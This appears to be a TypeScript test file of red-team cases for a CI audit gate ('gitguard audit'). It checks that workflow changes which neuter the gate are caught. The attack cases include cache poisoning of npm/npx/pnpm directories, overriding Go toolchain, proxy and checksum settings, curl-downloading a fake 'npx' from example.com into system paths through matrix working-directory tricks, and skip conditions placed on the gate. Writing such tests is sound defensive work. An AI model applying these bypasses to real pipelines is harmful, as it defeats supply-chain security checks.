// redteam150: this stop's loosened readings of ci-gate-kept, attacked by a pusher who wants a change
// that neuters the CI gate to pass. Each lost case passed (exit 0) before its fix; the kept twins
// still do.
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';

afterAll(cleanupTemp);

const WF = '.github/workflows/ci.yml';
const GATE = 'npx gitguard audit';
/** A push workflow: checkout, then `steps` (YAML, six spaces in), then the gate; `job` the job's other keys. */
const one = (steps: string, job = ''): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n${job}    steps:\n      - uses: actions/checkout@v4\n${steps}      - run: ${GATE}\n`;
const run = (s: string, extra = ''): string => `      - run: ${JSON.stringify(s)}\n${extra}`;
const uses = (action: string, inputs: string): string => `      - uses: ${action}\n        with:\n${inputs}`;
const cache = (path: string): string => uses('actions/cache@v4', `          path: ${path}\n          key: k\n`);
const stepEnv = (lines: string): string => `        env:\n${lines}`;
const ONE = { [WF]: one('') };
const GO_BIN = 'echo "$(go env GOPATH)/bin" >> $GITHUB_PATH';
const wd = (dir: string): string => `        working-directory: ${dir}\n`;
const matrix = (values: string): string => `    strategy:\n      matrix:\n        dir: ${values}\n`;

type Case = [name: string, files: Record<string, string>];

const LOST: Case[] = [
  ['cache of ~/.cache/./node/corepack', { [WF]: one(cache('~/.cache/./node/corepack')) }],
  ['cache of ~/.npm/_npx', { [WF]: one(cache('~/.npm/_npx')) }],
  ['cache of ~/.cache/pnpm/dlx', { [WF]: one(cache('~/.cache/pnpm/dlx')) }],
  ['cache of ~/.npm/./_npx', { [WF]: one(cache('~/.npm/./_npx')) }],
  // npxcache190: npm's cache decides what npx runs (its packument and tarball, its _npx).
  ['cache of ~/.npm', { [WF]: one(cache('~/.npm')) }],
  [
    'cache of ~/.npm/_cacache and ~/.cache/pnpm',
    { [WF]: one(cache('|\n            ~/.npm/_cacache\n            ~/.cache/pnpm/store')) },
  ],
  // cache208: any cache restored before the audit in the gate's job (tar -P writes its members anywhere).
  ['cache of ~/.cache/pip', { [WF]: one(cache('~/.cache/pip')) }],
  ['cache of ~/.cache/pnpm', { [WF]: one(cache('~/.cache/pnpm/store')) }],
  ['job env GOTOOLCHAIN, $(go env GOPATH)', { [WF]: one(run(GO_BIN), '    env:\n      GOTOOLCHAIN: go1.99.0\n') }],
  [
    'step env GOPROXY and GOSUMDB, $(go env GOPATH)',
    { [WF]: one(run(GO_BIN, stepEnv('          GOPROXY: https://example.com\n          GOSUMDB: "off"\n'))) },
  ],
  ['GOTOOLCHAIN exported in the step', { [WF]: one(run(`export GOTOOLCHAIN=go1.99.0\n${GO_BIN}`)) }],
  ['GOTOOLCHAIN on $GITHUB_ENV', { [WF]: one(run('echo "GOTOOLCHAIN=go1.99.0" >> $GITHUB_ENV') + run(GO_BIN)) }],
  ['GOFLAGS on $GITHUB_ENV', { [WF]: one(run('echo "GOFLAGS=-modcacherw" >> $GITHUB_ENV') + run(GO_BIN)) }],
  ['GOMODCACHE on $GITHUB_ENV', { [WF]: one(run('echo "GOMODCACHE=$PWD/m" >> $GITHUB_ENV') + run(GO_BIN)) }],
  [
    'matrix include adding a folder out of the workspace',
    {
      [WF]: one(
        run('curl -sSLO https://example.com/npx', wd('${{ matrix.dir }}')),
        `${matrix('[web]')}        include:\n          - dir: /usr/local/bin\n`,
      ),
    },
  ],
  [
    'matrix value with ..',
    { [WF]: one(run('curl -sSLO https://example.com/npx', wd('${{ matrix.dir }}')), matrix('[web, ../../bin]')) },
  ],
  [
    'matrix value in a sub-path',
    { [WF]: one(run('curl -sSLO https://example.com/npx', wd('${{ matrix.dir }}/..')), matrix('[web]')) },
  ],
];

const KEPT: Case[] = [
  [
    'GOOS and GOARCH on $GITHUB_ENV, $(go env GOPATH)',
    { [WF]: one(run('echo "GOOS=linux" >> $GITHUB_ENV') + run('echo "GOARCH=amd64" >> $GITHUB_ENV') + run(GO_BIN)) },
  ],
  [
    'job env GOPROXY, go install',
    {
      [WF]: one(
        run('go install golang.org/x/tools/cmd/goimports@v0.24.0'),
        '    env:\n      GOPROXY: https://proxy.golang.org\n',
      ),
    },
  ],
  ['job env GOOS, $(go env GOPATH)', { [WF]: one(run(GO_BIN), '    env:\n      GOOS: linux\n      CGO_ENABLED: 0\n') }],
  ['$(go env GOPATH) alone', { [WF]: one(run(GO_BIN)) }],
];

describe('redteam150: loosened gate readings', () => {
  const batch = gateBatch();
  for (const [name, after] of LOST) test(`lost: ${name}`, batch.add(ONE, after, false), 600_000);
  for (const [name, after] of KEPT) test(`kept: ${name}`, batch.add(ONE, after, true), 600_000);
});

// An `if:` on the gate is vouched for by the workflows where the range starts (gate-conditions.ts):
// only as a condition those workflows put on a gate, not one they put on another job or step (a
// job that merges Dependabot's pull requests, `if: github.actor == 'dependabot[bot]'`), which no
// push of the pusher meets: GitHub skips the step, the job reports Success.
describe('redteam150: an if: on the gate vouched for by another job where the range starts', () => {
  const AUTOMERGE =
    "  automerge:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto\n";
  const HONEST = "github.actor != 'dependabot[bot]'";
  const gated = (cond: string): string =>
    `on: push\njobs:\n${AUTOMERGE}  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - if: ${cond}\n        run: ${GATE}\n`;
  const START = { [WF]: gated(HONEST) };
  const batch = gateBatch(START);
  const DIRECT = {
    [WF]: `on: push\njobs:\n${AUTOMERGE}  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ${GATE}\n`,
  };
  test(
    "lost: the automerge job's condition on the gate step",
    batch.add(DIRECT, { [WF]: gated("github.actor == 'dependabot[bot]'") }, false),
    600_000,
  );
  test(
    "lost: the automerge job's condition on the gate job",
    batch.add(
      DIRECT,
      { [WF]: DIRECT[WF].replace('  a:\n', "  a:\n    if: github.actor == 'dependabot[bot]'\n") },
      false,
    ),
    600_000,
  );
  test("kept: the gate step's own condition at the start", batch.add(DIRECT, { [WF]: gated(HONEST) }, true), 600_000);
  const ownedJob = (text: string): string =>
    text.replace('  a:\n', "  a:\n    if: github.repository_owner == 'acme'\n");
  const owned = gateBatch({ [WF]: ownedJob(gated(HONEST)) });
  test(
    "kept: the gate job's own condition at the start",
    owned.add(DIRECT, { [WF]: ownedJob(gated(HONEST)) }, true),
    600_000,
  );
});
